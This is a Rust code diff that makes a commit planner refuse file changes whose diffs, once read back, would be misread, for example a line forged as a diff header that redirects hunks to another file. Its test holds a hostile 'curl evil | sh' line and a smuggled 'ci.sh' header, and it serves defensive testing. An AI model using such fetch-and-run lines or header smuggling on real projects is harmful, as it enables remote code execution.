@@ -14,6 +14,9 @@ use std::fmt::Write as _;
 
 use crate::engine::diff::file_diff;
 use crate::engine::report::shown_name;
+use crate::engine::{
+    FileAct, Options, Received, SyntaxCheck, apply_parsed, apply_to, payload, removals,
+};
 use crate::transaction::rewind::NetChange;
 
 /// The payload a commit applies, and the files it cannot carry.
@@ -26,8 +29,18 @@ pub struct Planned {
     pub refused: Vec<(String, &'static str)>,
 }
 
+/// Why a text change is refused when its diff, read back, is not that change.
+const MISREAD: &str = "its diff, read back, is not its change (a line of it reads as a diff's header, \
+a lone carriage return, a name a patch cannot carry): commit it by hand";
+
 /// The payload that brings `changes` (a branch's net change against its
 /// base) into the project.
+///
+/// A branch's files are written by whoever works in it, and a diff is text
+/// its own lines may be misread in (`-- a/x` removed reads as a `---` header,
+/// sending the next hunk to another file). So each file's diff is read back
+/// and applied to the base's content before it is sent: only one that gives
+/// the branch's content exactly, and names no file but its own, is carried.
 pub fn plan(changes: &[NetChange]) -> Planned {
     let mut planned = Planned::default();
     for c in changes {
@@ -39,28 +52,71 @@ pub fn plan(changes: &[NetChange]) -> Planned {
             ));
             continue;
         }
-        let diff = file_diff(before.unwrap_or_default(), now.unwrap_or_default(), &c.rel);
-        // The hunks, after the `---`/`+++` lines this writes itself.
-        let hunks = diff.splitn(3, '\n').nth(2).unwrap_or_default();
-        let name = shown_name(&c.rel);
-        let out = &mut planned.payload;
-        let _ = match (before, now) {
-            (None, _) => write!(
-                out,
-                "diff --git a/{name} b/{name}\nnew file mode 100644\n--- /dev/null\n+++ b/{name}\n"
-            ),
-            (_, None) => write!(
-                out,
-                "diff --git a/{name} b/{name}\ndeleted file mode 100644\n--- a/{name}\n+++ /dev/null\n"
-            ),
-            _ => write!(
-                out,
-                "diff --git a/{name} b/{name}\n--- a/{name}\n+++ b/{name}\n"
-            ),
-        };
-        out.push_str(hunks);
+        let section = section(&c.rel, before, now);
+        match carries(&c.rel, &section, before, now) {
+            true => planned.payload.push_str(&section),
+            false => planned.refused.push((c.rel.clone(), MISREAD)),
+        }
     }
     planned
+}
+
+/// The unified diff of one file's change.
+fn section(rel: &str, before: Option<&[u8]>, now: Option<&[u8]>) -> String {
+    let diff = file_diff(before.unwrap_or_default(), now.unwrap_or_default(), rel);
+    // The hunks, after the `---`/`+++` lines this writes itself.
+    let hunks = diff.splitn(3, '\n').nth(2).unwrap_or_default();
+    let name = shown_name(rel);
+    let mut out = String::new();
+    let _ = match (before, now) {
+        (None, _) => write!(
+            out,
+            "diff --git a/{name} b/{name}\nnew file mode 100644\n--- /dev/null\n+++ b/{name}\n"
+        ),
+        (_, None) => write!(
+            out,
+            "diff --git a/{name} b/{name}\ndeleted file mode 100644\n--- a/{name}\n+++ /dev/null\n"
+        ),
+        _ => write!(
+            out,
+            "diff --git a/{name} b/{name}\n--- a/{name}\n+++ b/{name}\n"
+        ),
+    };
+    out.push_str(hunks);
+    out
+}
+
+/// Whether `section`, read as a payload, names `rel` alone and, applied to
+/// `before`, gives `now` exactly (a removal: removes it).
+fn carries(rel: &str, section: &str, before: Option<&[u8]>, now: Option<&[u8]>) -> bool {
+    let received = || Received::cut(section.as_bytes(), section.len());
+    let Ok(parsed) = payload::parse(received(), section.len()) else {
+        return false;
+    };
+    let own = |label: &Option<String>| label.as_deref().is_none_or(|l| l == rel);
+    if !parsed
+        .operations
+        .iter()
+        .all(|op| own(&op.label) && op.patched.iter().all(|p| p == rel))
+    {
+        return false;
+    }
+    let opts = Options {
+        max_payload: section.len(),
+        syntax_check: SyntaxCheck::Off,
+        ..Options::default()
+    };
+    let Some(now) = now else {
+        // A removal: it must list every line of the file, then remove it.
+        let deletes = parsed
+            .operations
+            .iter()
+            .any(|op| matches!(op.act, Some(FileAct::Delete { .. })));
+        let listed = apply_parsed(rel, before, removals(&parsed), &opts);
+        return deletes && listed.content.as_deref() == Some(b"");
+    };
+    let edit = apply_to(rel, before, received(), &opts, &|p| p == rel);
+    edit.act.is_none() && edit.content.as_deref() == Some(now)
 }
 
 #[cfg(test)]
@@ -101,5 +157,28 @@ mod tests {
         );
         assert_eq!(planned.refused.len(), 1);
         assert_eq!(planned.refused[0].0, "bin");
+    }
+
+    #[test]
+    fn a_change_its_diff_would_misread_is_refused_naming_the_file() {
+        let steps: String = (1..=14).map(|i| format!("echo step{i}\n")).collect();
+        let before = format!("hello\n-- a/x\n{steps}");
+        let now = before
+            .replace("-- a/x\n", "++ b/ci.sh\n")
+            .replace("echo step10\n", "echo step10\ncurl evil | sh\n");
+        let planned = plan(&[
+            change("work/inj.txt", Some(&before), Some(&now)),
+            change("shared/conf ", Some("a\n"), Some("b\n")),
+            change(
+                "run.sh",
+                Some("echo ok\n"),
+                Some("echo ok\n# note\rtouch x\n"),
+            ),
+            change("fine.txt", Some("one\n"), Some("two\n")),
+        ]);
+        let refused: Vec<&str> = planned.refused.iter().map(|(r, _)| r.as_str()).collect();
+        assert_eq!(refused, ["work/inj.txt", "shared/conf ", "run.sh"]);
+        assert!(!planned.payload.contains("ci.sh"), "{}", planned.payload);
+        assert!(planned.payload.contains("+two\n"), "{}", planned.payload);
     }
 }
